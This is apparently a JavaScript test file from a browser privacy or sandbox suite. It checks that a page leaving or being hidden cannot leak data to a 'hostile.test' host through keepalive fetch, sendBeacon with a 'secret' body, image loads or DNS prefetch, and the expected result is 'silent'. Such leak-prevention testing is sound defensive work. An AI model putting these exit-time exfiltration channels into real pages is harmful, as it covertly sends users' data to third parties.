// SPDX-License-Identifier: GPL-3.0-or-later
import { address, element, finish } from './lib.js';

const leave = event => {
  const last = { keepalive: true, method: 'POST', mode: 'no-cors', body: 'x' };
  fetch(address(`${event.type}-fetch`), last).catch(() => {});
  navigator.sendBeacon?.(address(`${event.type}-beacon`), 'secret');
  new Image().src = address(`${event.type}-image`);
  document.head.append(element('link', { rel: 'dns-prefetch', href: `http://${event.type}.@CASE@.hostile.test/` }));
};

for (const name of ['beforeunload', 'pagehide', 'unload', 'visibilitychange'])
  addEventListener(name, leave);

if (sessionStorage.getItem('again') === null) {
  sessionStorage.setItem('again', 'yes');
  location.reload();
} else {
  finish({ 'left and came back': 'silent' });
}
